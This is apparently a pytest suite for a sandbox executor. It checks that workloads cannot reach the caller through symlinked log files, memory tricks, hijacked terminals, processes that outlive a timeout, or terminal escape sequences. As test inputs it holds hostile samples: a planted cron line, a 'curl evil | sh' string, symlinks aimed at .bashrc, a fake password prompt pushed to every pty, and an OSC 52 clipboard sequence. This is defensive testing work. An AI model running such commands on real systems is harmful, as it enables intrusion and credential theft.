"""Containment, second round (issue 10): nothing a sandbox plants reaches the caller's side —
log files, the person's terminal, rootless limits.

Each attack runs on every surface it applies to (one-shot, session; root and rootless) and
asserts the specific refusal and that the caller's side is unchanged.
"""
import fcntl
import json
import os
import pty
import select
import signal
import struct
import subprocess
import tempfile
import termios
import time

import pytest

from conftest import (DROP, MXC_EXEC, UID, assert_ok_envelope, errno_of, h, owned_tmpdir, rl,  # noqa: F401
                      unique, wait_until)

OSC52 = b"\x1b]52;c;cGF5bG9hZA==\x07"


def ok(r):
    assert r.rc == 0, r.describe()
    return r.stdout


# ------------------------------------------------------------------------------------------------
# helpers: a person's terminal


class Terminal:
    """mxc-exec on a pty made here (the person's terminal): write keys, read the screen, look
    at the terminal's modes, signal the caller."""

    def __init__(self, argv, env, rows=24, cols=80):
        self.master, self.slave = pty.openpty()
        fcntl.ioctl(self.slave, termios.TIOCSWINSZ, struct.pack("HHHH", rows, cols, 0, 0))
        self.p = subprocess.Popen(argv, stdin=self.slave, stdout=self.slave, stderr=self.slave, env=env,
                                  start_new_session=True)
        self.screen = b""

    def read_until(self, needle, timeout=30):
        deadline = time.monotonic() + timeout
        while needle not in self.screen and time.monotonic() < deadline:
            r, _, _ = select.select([self.master], [], [], 0.2)
            if r:
                try:
                    self.screen += os.read(self.master, 65536)
                except OSError:
                    break
        return needle in self.screen

    def finish(self, timeout=60):
        deadline = time.monotonic() + timeout
        while self.p.poll() is None and time.monotonic() < deadline:
            self.read_until(b"\0\0never", 0.2)
        self.read_until(b"\0\0never", 0.3)
        rc = self.p.wait(timeout=10)
        return rc

    def lines(self):
        """The screen as text lines, without the one warning an ASan+UBSan build prints when its
        vfork-style child switches stacks (google/sanitizers#189): run-tests.sh runs this suite
        against that build too, and the warning is the sanitizer's, not the workload's."""
        out = []
        for line in self.screen.decode(errors="replace").replace("\r", "").splitlines():
            if "ASan is ignoring requested __asan_handle_no_return" in line or \
                    line.startswith("For details see https://github.com/google/sanitizers/issues/189"):
                continue
            out.append(line)
        return out

    def lflag(self):
        return termios.tcgetattr(self.slave)[3]

    def close(self):
        if self.p.poll() is None:
            self.p.kill()
            self.p.wait()
        os.close(self.master)
        os.close(self.slave)


def request_file(mxc, req):
    return mxc.config_file(req)


def terminal_run(mxc, req, flags=(), env=None):
    argv = [MXC_EXEC] + list(flags) + (["--experimental"] if "phase" in req else []) + \
        ["--config", request_file(mxc, req)]
    return Terminal(argv, mxc.env(env))


# ------------------------------------------------------------------------------------------------
# 1. --log-file: a link the sandbox planted, the workload's stderr


@pytest.fixture
def target_dir():
    d = tempfile.mkdtemp(prefix="mxc-logtarget-", dir="/var/tmp")
    os.chmod(d, 0o755)
    yield d
    subprocess.run(["rm", "-rf", d])


def test_log_file_symlink_planted_by_the_sandbox_is_refused(mxc, session, target_dir):
    target = os.path.join(target_dir, "cron-x")
    ok(session.exec("ln -s %s $HOME/mxc.log; mkdir $HOME/d; ln -s %s $HOME/d2" % (target, target_dir)))
    for log in (os.path.join(session.workspace, "mxc.log"), os.path.join(session.workspace, "d2", "x.log"),
                os.path.join(session.workspace, "d", "fresh.log")):
        r = mxc(argv=["--experimental", "--log-file", log, "--config",
                      request_file(mxc, {"phase": "exec", "sandboxId": session.id,
                                         "process": {"commandLine": "echo '* * * * * root pwn' >&2"}})])
        assert r.rc != 0 and r.error, r.describe()
        assert r.error["operation"] == "log.open", r.describe()
        assert "pwn" not in r.stderr, "the workload ran and its stderr went somewhere: " + r.describe()
    assert os.listdir(target_dir) == [], os.listdir(target_dir)


def test_workload_stderr_never_lands_in_the_log(mxc, sandbox, scratch):
    log = os.path.join(scratch, "mxc-%s.log" % unique("log"))
    sb = sandbox()
    req = sb.request("echo WORKLOAD-STDERR >&2; echo out")
    r = mxc(argv=(["--experimental"] if "phase" in req else []) + ["--debug", "--log-file", log, "--config",
                                                                   request_file(mxc, req)])
    assert (r.rc, r.stdout) == (0, "out\n"), r.describe()
    assert "WORKLOAD-STDERR" in r.stderr, r.describe()  # the caller's own stderr
    text = open(log).read()
    assert "WORKLOAD-STDERR" not in text, text
    assert "mxc-exec" in text, text  # the diagnostics did go there
    assert os.stat(log).st_mode & 0o777 == 0o600


def test_rootless_log_file_symlink_cannot_reach_the_users_files(rl):
    home = owned_tmpdir("mxc-rootless-home-")
    bashrc = os.path.join(home, ".bashrc")
    with open(bashrc, "w") as f:
        f.write("# the user's own\n")
    os.chown(bashrc, UID, UID)
    try:
        res = rl.provision(helper=False)
        sid, ws = res["sandboxId"], res["metadata"]["ephemeralWorkspacePath"]
        assert_ok_envelope(rl.phase("start", sid))
        assert rl.exec(sid, "ln -s %s $HOME/mxc.log; ln -s %s $HOME/d" % (bashrc, home)).rc == 0
        for log in (os.path.join(ws, "mxc.log"), os.path.join(ws, "d", ".bashrc")):
            req = {"phase": "exec", "sandboxId": sid, "process": {"commandLine": "echo 'curl evil | sh' >&2"}}
            path = rl.config_file(req)
            os.chmod(path, 0o644)
            p = subprocess.run(DROP + [MXC_EXEC, "--experimental", "--log-file", log, "--config", path],
                               capture_output=True, env=rl.env(), timeout=60)
            assert p.returncode != 0, (p.stdout, p.stderr)
            assert b"log.open" in p.stdout, p.stdout
        assert open(bashrc).read() == "# the user's own\n"
    finally:
        subprocess.run(["rm", "-rf", home])


# ------------------------------------------------------------------------------------------------
# 2. rootless memory: no cgroup is delegated here, and the bound must still hold in one process


def test_rootless_memory_bound_holds_against_shared_memfd_and_stack_growth(rl):
    r = rl.oneshot(h("memtricks", 200) + "; " + h("memtricks", 8), host_env={"MXC_MEMORY_MAX": str(64 << 20)})
    out = ok(r)
    big, small = out.split("memtricks_shared", 2)[1], out.split("memtricks_shared", 2)[2]
    assert errno_of("memtricks_shared" + big, "memtricks_shared") == "ENOMEM", out
    assert errno_of(big, "memtricks_memfd") == "EPERM", out
    assert errno_of(big, "memtricks_growsdown") == "ENOMEM", out
    assert errno_of("memtricks_shared" + small, "memtricks_shared") == "ok", out  # under the bound: fine
    probe = json.loads(rl(argv=["--probe"]).stdout)["result"]
    assert "RLIMIT_AS" in probe["rlimitFallback"], probe


# ------------------------------------------------------------------------------------------------
# 3. a terminal per exec


def test_an_earlier_exec_cannot_take_over_a_later_execs_terminal(mxc, session):
    """exec 1 leaves a process that opens every /dev/pts/N it can and writes a fake prompt to
    it; exec 2 is attached to a person's terminal. Exec 2's terminal is a devpts instance of
    its own: exec 1 never reaches it, and nothing of exec 1 shows on the person's screen."""
    probe = ("i=0; while [ $i -lt 60 ]; do for t in /dev/pts/[0-9]*; do "
             "[ -e \"$t\" ] && { printf 'Password: ' > \"$t\" && echo \"opened $t\" >> $HOME/takeover; }; "
             "done; i=$((i+1)); sleep 0.05; done")
    bg = mxc.popen({"phase": "exec", "sandboxId": session.id,
                    "process": {"commandLine": "(%s) </dev/null >/dev/null 2>&1 &" % probe}})
    bg.communicate(timeout=60)
    term = terminal_run(mxc, {"phase": "exec", "sandboxId": session.id,
                              "process": {"commandLine": "tty; sleep 2; echo done-here"}})
    try:
        assert term.read_until(b"done-here"), term.screen
        assert term.finish() == 0, term.screen
        assert b"/dev/pts/" in term.screen, term.screen
        assert b"Password" not in term.screen, term.screen
    finally:
        term.close()
    r = session.exec("sleep 3; cat $HOME/takeover 2>/dev/null; true")
    assert "opened" not in r.stdout, r.stdout


# ------------------------------------------------------------------------------------------------
# 4. the timeout's last tier without a cgroup


def test_rootless_timeout_kills_a_setsid_grandchild(rl):
    marker = "37.%d" % (os.getpid() % 1000)
    res = rl.provision(helper=False)
    sid = res["sandboxId"]
    assert_ok_envelope(rl.phase("start", sid))
    r = rl.exec(sid, "setsid sh -c 'exec sleep %s' & sleep 100" % marker, timeout_ms=300)
    assert r.rc == 255, r.describe()
    assert json.loads(r.stderr.strip().splitlines()[-1])["error"]["details"]["timedOut"] is True
    assert wait_until(lambda: subprocess.run(["pgrep", "-f", "sleep %s" % marker]).returncode != 0, 10), \
        "the setsid grandchild outlived the timeout"


def test_timeout_kills_a_setsid_grandchild(mxc, session):
    marker = "38.%d" % (os.getpid() % 1000)
    r = session.exec("setsid sh -c 'exec sleep %s' & sleep 100" % marker, timeout_ms=300)
    assert r.rc == 255, r.describe()
    assert wait_until(lambda: subprocess.run(["pgrep", "-f", "sleep %s" % marker]).returncode != 0, 10)


# ------------------------------------------------------------------------------------------------
# 5. the person's terminal


def test_terminal_sequences_acting_on_the_persons_machine_are_filtered(mxc, sandbox):
    sb = sandbox()
    cmd = ("printf 'A\\033]52;c;cGF5bG9hZA==\\007B\\033[21tC\\033P$qm\\033\\\\D\\033[cE\\033[6nF"
           "\\033]0;title\\007G\\033[1mH\\033[0m\\n'")
    term = terminal_run(mxc, sb.request(cmd))
    try:
        assert term.finish() == 0, term.screen
    finally:
        term.close()
    assert b"AB" in term.screen and b"CD" in term.screen and b"EF" in term.screen, term.screen
    assert b"\x1b]52" not in term.screen and b"\x1b[21t" not in term.screen, term.screen
    assert b"\x1bP$q" not in term.screen and b"\x1b[c" not in term.screen, term.screen
    assert b"\x1b[6n" not in term.screen and b"\x1b]0;" not in term.screen, term.screen
    assert b"G\x1b[1mH\x1b[0m" in term.screen, term.screen  # colours still pass
    raw = terminal_run(mxc, sb.request(cmd), flags=["--raw-terminal"])
    try:
        assert raw.finish() == 0, raw.screen
    finally:
        raw.close()
    assert OSC52 in raw.screen, raw.screen  # the opt-out passes it through


def test_workload_on_a_terminal_gets_one_of_its_own(mxc, sandbox):
    sb = sandbox()
    term = terminal_run(mxc, sb.request("tty; stty size; test -t 0 -a -t 1 -a -t 2 && echo all-ttys"))
    try:
        assert term.finish() == 0, term.screen
    finally:
        term.close()
    lines = term.lines()
    assert lines[0].startswith("/dev/pts/"), lines
    assert lines[1] == "24 80", lines
    assert "all-ttys" in lines, lines


def test_workload_without_a_terminal_has_no_controlling_tty(sandbox):
    out = ok(sandbox().run(h("devtty")))
    assert errno_of(out, "devtty") == "ENXIO", out


def test_sigterm_of_an_attached_caller_restores_the_terminal(mxc, sandbox):
    sb = sandbox()
    term = terminal_run(mxc, sb.request("echo started; sleep 60"))
    try:
        assert term.read_until(b"started"), term.screen
        lflag = term.lflag()
        assert not (lflag & termios.ECHO) and not (lflag & termios.ICANON), "not in raw mode"
        for sig in (signal.SIGTERM,):
            term.p.send_signal(sig)
        assert term.p.wait(timeout=30) == -signal.SIGTERM
        lflag = term.lflag()
        assert lflag & termios.ECHO and lflag & termios.ICANON, "the terminal was left raw"
    finally:
        term.close()


@pytest.mark.parametrize("sig", [signal.SIGINT, signal.SIGHUP])
def test_other_signals_of_an_attached_caller_restore_the_terminal(mxc, session, sig):
    term = terminal_run(mxc, {"phase": "exec", "sandboxId": session.id,
                              "process": {"commandLine": "echo started; sleep 60"}})
    try:
        assert term.read_until(b"started"), term.screen
        term.p.send_signal(sig)
        term.p.wait(timeout=30)
        lflag = term.lflag()
        assert lflag & termios.ECHO and lflag & termios.ICANON, "the terminal was left raw"
    finally:
        term.close()
    # the exec died with its caller: the session serves the next one
    r = session.exec("echo next")
    assert (r.rc, r.stdout) == (0, "next\n"), r.describe()
